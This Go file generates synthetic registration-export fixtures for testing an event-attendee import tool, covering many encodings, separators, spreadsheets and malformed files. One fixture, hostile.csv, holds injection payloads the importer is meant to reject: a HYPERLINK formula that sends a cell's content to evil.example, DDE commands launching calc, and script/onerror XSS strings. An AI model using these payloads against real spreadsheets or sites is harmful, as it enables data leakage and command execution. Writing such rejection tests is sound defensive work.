//go:build ignore

// generate writes the synthetic registration exports of this folder, each
// with the encoding, separator and line ends of the tool it imitates. The
// two sample_*.csv files are copies of /work/shared/data and are not
// generated. Run from the repository root:
//
//	go run testdata/exports/generate.go
//
// The event the fixtures are written for runs on Wednesday 14 and Thursday
// 15 October 2026. README.md says what each file holds and why.
package main

import (
	"archive/zip"
	"bytes"
	"fmt"
	"log"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
	"unicode/utf16"

	"github.com/xuri/excelize/v2"
	"golang.org/x/text/encoding/charmap"
)

const dir = "testdata/exports"

func main() {
	write("utf8_tab.txt", utf8Tab())
	write("utf16le_tab.txt", utf16LE(utf16Tab()))
	write("title_row.csv", windows1252(titleRow()))
	write("mac_cr.csv", []byte(macCR()))
	write("quoted_ragged.csv", []byte(quotedRagged()))
	write("ticketing_en.csv", []byte(ticketing()))
	write("google_forms_fr.csv", []byte(googleForms()))
	write("hostile.csv", []byte(hostile()))
	write("workshops_fr.csv", []byte(workshops()))
	write("empty.csv", nil)
	write("pdf_renamed.csv", []byte("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"))
	write("workbook.xlsx", workbook())
	write("workbook.ods", workbookODS())
	write("random.bin", random())
}

func write(name string, data []byte) {
	if err := os.WriteFile(filepath.Join(dir, name), data, 0o644); err != nil {
		log.Fatal(err)
	}
}

func lines(end string, rows ...string) string { return strings.Join(rows, end) + end }

// utf8Tab is a "Unicode text" export saved as UTF-8 without BOM: tabs, LF.
func utf8Tab() []byte {
	return []byte(lines("\n",
		"Prénom\tNom\tE-mail\tOrganisation\tCatégorie",
		"Hélène\tMüller\thelene.muller@example.de\tNationalpark Schwarzwald\tIntervenante",
		"Zoé\tNadeau\tzoe.n@example.org\tOffice de tourisme Cœur de Savoie\tParticipant",
		"Łukasz\tWróbel\tlukasz@example.pl\t\"Karkonoski\tPark Narodowy\"\tParticipant",
	))
}

// utf16Tab is Excel's "Unicode text": UTF-16LE with BOM, tabs, CRLF, with
// per-day attendance columns named by weekday and date.
func utf16Tab() string {
	return lines("\r\n",
		"Nom\tPrénom\tAdresse e-mail\tStructure\tPrésence mercredi 14 octobre\tPrésence jeudi 15 octobre",
		"Müller\tHélène\th.muller@example.de\tNationalpark Schwarzwald\tOui\tOui",
		"Nadeau\tZoé\tzoe.n@example.org\tOffice de tourisme Cœur de Savoie\tOui\tNon",
		"Nguyễn\tNgọc\tngoc@example.vn\tVườn quốc gia Bạch Mã\tNon\tOui",
	)
}

// titleRow is a French Excel sheet (Windows-1252, ';', CRLF) with a title
// row and a blank row above the header, per-day Oui/Non columns and a
// remarks column.
func titleRow() string {
	return lines("\r\n",
		"Inscriptions - Rencontre 2026;;;;;;",
		";;;;;;",
		"Nom;Prénom;Courriel;Structure;Présence mercredi 14 octobre;Présence jeudi 15 octobre;Remarques",
		"Durand;Sophie;sophie.durand@example.fr;Parc national des Écrins;Oui;Oui;",
		"Lefèvre;Marc;marc.lefevre@example.fr;Œuvre des Alpes;Oui;Non;végétarien",
		"Garnier;Inès;ines.garnier@example.fr;Mairie de Briançon;Non;Oui;",
		"Roux;Paul;paul.roux@example.fr;Métropole de Lyon;Non;Non;",
		"Bernard;Lucie;lucie.bernard@example.fr;CCI des Hautes-Alpes;Peut-être;Oui;",
		"Faure;Jean;jean.faure@example.fr;Office national des forêts;x;;arrive mercredi soir",
	)
}

// macCR has classic Mac OS line ends (CR only) and, as Excel for Mac
// writes it, an LF for the line break inside a cell.
func macCR() string {
	return lines("\r",
		"first_name,last_name,email,organisation",
		"Éloïse,Marchand,eloise@example.fr,Parc du Vercors",
		`Bob,Smith,bob@example.com,"Acme, Inc."`,
		"Carol,King,carol-at-example.com,Nowhere",
		"Dan,Brown,dan@example.com,\"Books\nand more\"",
		"Eve,Adams,eve@example.com,Crypto",
	)
}

// quotedRagged has quoted fields holding line breaks, separators and
// doubled quotes, a blank line, and rows with too few and too many fields.
func quotedRagged() string {
	return lines("\n",
		"first_name,last_name,email,organization,notes",
		`Ada,Lovelace,ada@example.org,"Engines, Ltd","She said ""hello"""`,
		`Grace,Hopper,grace@example.org,"Navy`,
		`Yard, Building ""7""",remark`,
		``,
		`Alan,Turing,alan@example.org`,
		`Edsger,Dijkstra,edsger@example.org,TU Eindhoven,note,extra,more`,
		`Barbara`,
		`"Jean`,
		`Luc",Picard,"jl@example.org",Starfleet,"two`,
		`lines"`,
		`Tim,Berners-Lee,not-an-address,CERN,"semi; colon, comma"`,
		`Linus,Torvalds,linus@example.org,"Linux ""Foundation""",`,
	)
}

// ticketing imitates a ticketing tool's attendee export (pretix,
// Eventbrite): English headers, an order code shared by the tickets of one
// order, one buyer's e-mail repeated on the tickets she bought for
// colleagues, a ticket id per attendee, and order statuses.
func ticketing() string {
	return lines("\n",
		"Order code,Order date,Order status,Ticket ID,Ticket type,Attendee name,Attendee email,Company,Invoice address",
		`ABC12,2026-09-01,paid,1001,Regular,Alice Martin,buyer@agency.example,Agency One,"1 rue de la Paix, Paris"`,
		`ABC12,2026-09-01,paid,1002,Regular,Bruno Petit,buyer@agency.example,Agency One,"1 rue de la Paix, Paris"`,
		`ABC12,2026-09-01,paid,1003,Speaker,Chloé Durand,buyer@agency.example,Agency One,"1 rue de la Paix, Paris"`,
		`DEF34,2026-09-02,canceled,1004,Regular,Denis Roy,denis@example.com,Roy SA,`,
		`GHI56,2026-09-03,refunded,1005,Student,Emma Blanc,emma@example.com,Université Grenoble Alpes,`,
		`JKL78,2026-09-04,pending,1006,Regular,Farid Haddad,farid@example.com,,`,
	)
}

// googleForms imitates a Google Forms response sheet downloaded as CSV:
// UTF-8 without BOM, commas, a timestamp, a multiple-choice days question,
// an IP address and a consent question that must not be imported.
func googleForms() string {
	const consent = "J'accepte que mes données soient utilisées pour l'organisation de la rencontre"
	return lines("\n",
		"Horodateur,Adresse e-mail,Votre prénom,Votre nom,Nom de votre structure,Quels jours serez-vous présent ?,Adresse IP,"+consent+",Commentaire",
		`2026/09/01 10:02:11 UTC+2,anne.leroux@example.fr,Anne,Le Roux,Parc naturel régional du Queyras,"Jour 1, Jour 2",192.0.2.10,J'accepte,Arrivera vers 10h`,
		`2026/09/01 11:40:55 UTC+2,b.chabert@example.fr,Baptiste,Chabert,Conseil départemental de l'Isère,Jour 1,192.0.2.11,J'accepte,`,
		`2026/09/02 08:15:00 UTC+2,zoe.n@example.org,Zoé,Nadeau,Office de tourisme Cœur de Savoie,Jour 2,198.51.100.7,J'accepte,Végétarienne`,
		`2026/09/02 09:00:12 UTC+2,f.dubois@example.fr,François,Dubois,Syndicat mixte des Gorges du Verdon,"Jour 1 (plénière), Jour 2 (ateliers)",203.0.113.5,J'accepte,`,
		`2026/09/03 09:00:12 UTC+2,g.aubert@example.fr,Gaëlle,Aubert,Agence régionale de la biodiversité,Jour 3,203.0.113.9,J'accepte,`,
		`2026/09/03 10:00:00 UTC+2,h.muller@example.de,Hélène,Müller,Nationalpark Schwarzwald,,203.0.113.10,J'accepte,`,
	)
}

// workshops is a French form's export whose "Atelier(s) souhaité(s)"
// column lists the workshops chosen in the form's own wording: numbered
// ("Atelier 3 :", "A5 -"), with notes ("(à confirmer)", "(complet)"), one to
// three of them joined by ";" or ",", a comma inside one workshop's name,
// one workshop that desk.yaml does not list, and a yes/no question about
// one workshop that is not the choice column.
func workshops() string {
	const (
		a1 = "Atelier 1 : Déployer Geotrek sur votre serveur"
		a2 = "Atelier 2 : Saisir des itinéraires dans Geotrek-admin"
		a3 = "Atelier 3 : Geotrek-rando, le portail grand public"
		a4 = "Atelier 4 : Cartographie et fonds de carte"
		a5 = "Atelier 5 : Données touristiques et APIDAE (à confirmer)"
		a6 = "Atelier 6 : Geotrek-mobile"
		a7 = "Atelier 7 : Signalétique et aménagements"
		a8 = "Atelier 8 : Suivi de la fréquentation (complet)"
		a9 = "Atelier 9 : Drones et photos aériennes"
	)
	return "\ufeff" + lines("\r\n",
		"Horodateur;Prénom;Nom;Adresse e-mail;Structure;Présence mercredi 14 octobre;Présence jeudi 15 octobre;Atelier du jeudi – Déployer Geotrek : participerez-vous ?;Atelier(s) souhaité(s);Commentaire",
		"2026/09/01 10:02;Anne;Le Roux;anne.leroux@example.fr;PNR du Queyras;Oui;Oui;Oui;\""+a1+";"+a4+", "+a7+"\";",
		"2026/09/01 11:40;Baptiste;Chabert;b.chabert@example.fr;CD Isère;Oui;Oui;Non;\""+a3+", "+a5+"\";",
		"2026/09/02 08:15;Zoé;Nadeau;zoe.n@example.org;OT Cœur de Savoie;Non;Oui;Non;"+a2+";Végétarienne",
		"2026/09/02 09:00;François;Dubois;f.dubois@example.fr;SM Gorges du Verdon;Oui;Oui;Oui;\""+a1+"\n"+a9+"\";",
		"2026/09/02 10:30;Gaëlle;Aubert;g.aubert@example.fr;ARB;Oui;Oui;Non;A5 - Données touristiques et APIDAE;",
		"2026/09/03 10:00;Hélène;Müller;h.muller@example.de;Nationalpark Schwarzwald;Oui;Oui;Non;"+a6+";",
		"2026/09/03 11:00;Jean-Pierre;N'Diaye;jp.ndiaye@example.org;RNF;Oui;Oui;Non;\""+a8+", "+a9+"\";",
		"2026/09/04 09:12;Lucie;Roux;lucie.roux@example.fr;PN des Écrins;Oui;Oui;Oui;\"déployer geotrek sur votre serveur ; "+a3+"\";",
		"2026/09/04 14:00;Marc;Petit;marc.petit@example.fr;CC Serre-Ponçon;Non;Oui;Non;"+a4+";",
		"2026/09/05 08:00;Nadia;Benali;nadia.benali@example.fr;PNR Vercors;Oui;Oui;Non;\""+a7+"; "+a2+"; "+a6+"\";",
		"2026/09/05 09:30;Olivier;Garnier;o.garnier@example.fr;Département des Hautes-Alpes;Oui;Non;Non;;Plénière seulement",
		"2026/09/06 16:45;Pauline;Faure;pauline.faure@example.fr;OT Briançon;Oui;Oui;Non;\""+a9+"\";",
	)
}

// hostile holds rows that are attacks or mistakes, each of which must be
// rejected for its own reason, among good rows that must still go in.
func hostile() string {
	return lines("\n",
		"Prénom,Nom,Email,Organisation,Commentaire",
		`Alice,Martin,alice@example.fr,Parc national des Écrins,"=HYPERLINK(""http://evil.example"",""ok"")"`,
		`"=HYPERLINK(""http://evil.example/?d=""&A1,""Cliquez"")",Pirate,pirate1@example.com,Evil Corp,`,
		`Bob,+cmd|' /C calc'!A0,pirate2@example.com,Evil Corp,`,
		`Carl,Cox,carl@example.com,@SUM(1+1)*cmd|' /C calc'!A0,`,
		`<script>alert(1)</script>,Dupont,script@example.com,Org,`,
		`Dora,"<img src=x onerror=alert(1)>",img@example.com,Org,`,
		strings.Repeat("A", 5000)+`,Long,long@example.com,Org,`,
		"Jo\x00hn,Nul,nul@example.com,Org,",
		"Ma\x1b[31mx,Esc,esc@example.com,Org,",
		"Bel\x07la,Bell,bel@example.com,Org,",
		`,,noname@example.com,Org,`,
		`Nina,Sans-Mail,,Org,`,
		`Oscar,Invalide,pas-une-adresse,Org,`,
		`Claire,Petit,Claire.Petit@Example.FR,Mairie,`,
		`Claire,Petit,claire.petit@example.fr,Mairie de Gap,`,
		`Zoé,Nadeau,zoe@example.org,Cœur de Savoie,<b>note</b>`,
	)
}

// windows1252 encodes s as French Excel's "CSV (séparateur: point-virgule)".
func windows1252(s string) []byte {
	b, err := charmap.Windows1252.NewEncoder().Bytes([]byte(s))
	if err != nil {
		log.Fatal(err)
	}
	return b
}

func utf16LE(s string) []byte {
	out := []byte{0xFF, 0xFE}
	for _, u := range utf16.Encode([]rune(s)) {
		out = append(out, byte(u), byte(u>>8))
	}
	return out
}

// formsHeader is a Microsoft Forms responses sheet in French, with a
// phone number and an amount paid added by hand.
var formsHeader = []any{"ID", "Heure de début", "Heure de fin", "Adresse de messagerie", "Nom", "Prénom", "Nom2", "Organisme",
	"Quels jours serez-vous présent(e) ?", "Téléphone", "Montant"}

// workbook is a Microsoft Forms .xlsx reworked in Excel: a merged title
// row and a blank row above the header (on row 3), dates stored as
// numbers with a date format, a phone number stored as a number, an
// amount of 120.5, accents, a blank row between responses, a row without
// a name and a second sheet.
func workbook() []byte {
	f := excelize.NewFile()
	defer f.Close()
	check(f.SetSheetName("Sheet1", "Form1"))
	check(f.SetDocProps(&excelize.DocProperties{Created: "2026-09-15T08:00:00Z", Modified: "2026-09-15T08:00:00Z", Creator: "Microsoft Forms"}))
	check(f.SetCellValue("Form1", "A1", "Rencontres 2026 — réponses au formulaire"))
	check(f.MergeCell("Form1", "A1", "K1"))
	check(f.SetSheetRow("Form1", "A3", &formsHeader))
	when := "m/d/yy h:mm:ss"
	dates, err := f.NewStyle(&excelize.Style{CustomNumFmt: &when})
	check(err)
	rows := [][]any{ // rows 4, 5, 7 and 8; row 6 stays blank
		{1, 46279.416666666664, 46279.41875, "anonymous", "", "Zoë", "Ngô-Quang", "Grand Annecy Agglomération", "Jour 1 (plénière);Jour 2 (ateliers);", 612345678, 120.5},
		{2, 46279.42361111111, 46279.42569444444, "anonymous", "", "François", "Lefèvre", "Office de tourisme de Chamonix", "Jour 2 (ateliers);", 33450123456, 0},
		{3, 46280.375, 46280.37708333333, "anonymous", "", "Jean-Noël", "Bénard", "Mairie d'Annecy", "Jour 1 (plénière);", "", 60},
		{4, 46280.5, 46280.50208333333, "anonymous", "", "", "", "Sans nom", "Jour 1 (plénière);", "", ""},
	}
	for i, values := range rows {
		n := []int{4, 5, 7, 8}[i]
		cell := fmt.Sprintf("A%d", n)
		check(f.SetSheetRow("Form1", cell, &values))
		check(f.SetCellStyle("Form1", fmt.Sprintf("B%d", n), fmt.Sprintf("C%d", n), dates))
	}
	_, err = f.NewSheet("Notes")
	check(err)
	check(f.SetSheetRow("Notes", "A1", &[]any{"Prénom", "Nom", "Email", "Remarque"}))
	check(f.SetSheetRow("Notes", "A2", &[]any{"Anne", "Le Roux", "anne.leroux@example.fr", "inscrite sur place"}))
	var buf bytes.Buffer
	_, err = f.WriteTo(&buf)
	check(err)
	return buf.Bytes()
}

// workbookODS is a LibreOffice .ods: a header row, accents, numbers and
// dates shown formatted, a comment, a merged title, blank rows repeated,
// the million empty rows LibreOffice writes at the end of a sheet and a
// second sheet.
func workbookODS() []byte {
	text := func(s string) string {
		return `<table:table-cell office:value-type="string" calcext:value-type="string"><text:p>` + s + `</text:p></table:table-cell>`
	}
	content := `<?xml version="1.0" encoding="UTF-8"?>
<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:calcext="urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0" xmlns:dc="http://purl.org/dc/elements/1.1/" office:version="1.3"><office:body><office:spreadsheet>
<table:table table:name="Inscriptions"><table:table-column table:number-columns-repeated="7"/>
<table:table-row><table:table-cell table:number-columns-spanned="7" office:value-type="string"><text:p>Journées 2026</text:p></table:table-cell><table:covered-table-cell table:number-columns-repeated="6"/></table:table-row>
<table:table-row>` + text("Prénom") + text("Nom") + text("E-mail") + text("Organisme") + text("Mercredi 14/10") + text("Jeudi 15/10") + text("Montant") + `</table:table-row>
<table:table-row>` + text("Hélène") + text("Müller") + text("helene.muller@example.de") + `<table:table-cell office:value-type="string"><office:annotation><dc:creator>Anne</dc:creator><text:p>SECRET comment</text:p></office:annotation><text:p>Parc<text:s/>naturel</text:p></table:table-cell>` + text("Oui") + text("Non") + `</table:table-row>
<table:table-row table:number-rows-repeated="2"><table:table-cell table:number-columns-repeated="6"/></table:table-row>
<table:table-row>` + text("Łukasz") + text("Wróbel") + text("lukasz@example.pl") + text("Karkonoski Park Narodowy") + `<table:table-cell table:number-columns-repeated="2" office:value-type="string"><text:p>Oui</text:p></table:table-cell><table:table-cell office:value-type="float" office:value="120.5"><text:p>120,50 €</text:p></table:table-cell></table:table-row>
<table:table-row table:number-rows-repeated="1048570"><table:table-cell table:number-columns-repeated="16384"/></table:table-row>
</table:table>
<table:table table:name="Feuille2"><table:table-row>` + text("notes") + `</table:table-row></table:table>
</office:spreadsheet></office:body></office:document-content>`
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, part := range [][2]string{
		{"mimetype", "application/vnd.oasis.opendocument.spreadsheet"},
		{"content.xml", content},
		{"META-INF/manifest.xml", `<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>`},
	} {
		method := zip.Deflate
		if part[0] == "mimetype" {
			method = zip.Store // first and uncompressed, as the format requires
		}
		w, err := zw.CreateHeader(&zip.FileHeader{Name: part[0], Method: method})
		check(err)
		_, err = w.Write([]byte(part[1]))
		check(err)
	}
	check(zw.Close())
	return buf.Bytes()
}

func check(err error) {
	if err != nil {
		log.Fatal(err)
	}
}

// random is 1 KiB of seeded random bytes.
func random() []byte {
	var seed [32]byte
	copy(seed[:], "desk testdata random.bin")
	b := make([]byte, 1024)
	rand.NewChaCha8(seed).Read(b)
	return b
}
